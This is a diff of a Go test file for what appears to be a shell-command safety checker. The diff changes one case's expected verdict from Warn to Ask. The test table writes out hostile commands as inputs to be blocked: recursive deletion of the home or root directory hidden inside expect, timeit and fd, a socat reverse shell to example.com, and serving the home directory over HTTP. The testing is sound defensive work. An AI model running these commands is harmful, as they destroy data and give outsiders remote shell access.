@@ -34,7 +34,7 @@ func TestProgramsBehindPrograms(t *testing.T) {
 		{"a dialogue", "expect -c 'spawn rm -rf ~; interact'", rules.Block, "fs.rm-home"},
 		{"a shell over a socket", "socat TCP:example.com:1 EXEC:sh", rules.Block, "net.relay"},
 		{"a measurement", `python3 -m timeit 'import shutil; shutil.rmtree("/")'`, rules.Block, "fs.rm-root"},
-		{"a server for everyone", "python3 -m http.server 8000", rules.Warn, "net.serve"},
+		{"a server for everyone", "python3 -m http.server 8000", rules.Ask, "net.serve"},
 		{"a server of what is the user's", "cd ~ && python3 -m http.server 8000", rules.Block, "secrets.serve"},
 		{"a server for this machine", "python3 -m http.server -b 127.0.0.1 8000", rules.Allow, ""},
 		{"a search that runs", "fd -x rm -rf ~", rules.Block, "fs.rm-home"},
